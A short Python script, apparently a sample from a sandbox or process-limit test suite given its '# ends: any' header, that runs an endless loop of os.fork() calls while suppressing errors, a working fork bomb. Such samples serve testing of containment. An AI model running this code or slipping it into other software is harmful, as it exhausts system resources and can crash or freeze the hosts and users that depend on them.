# ends: any
import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
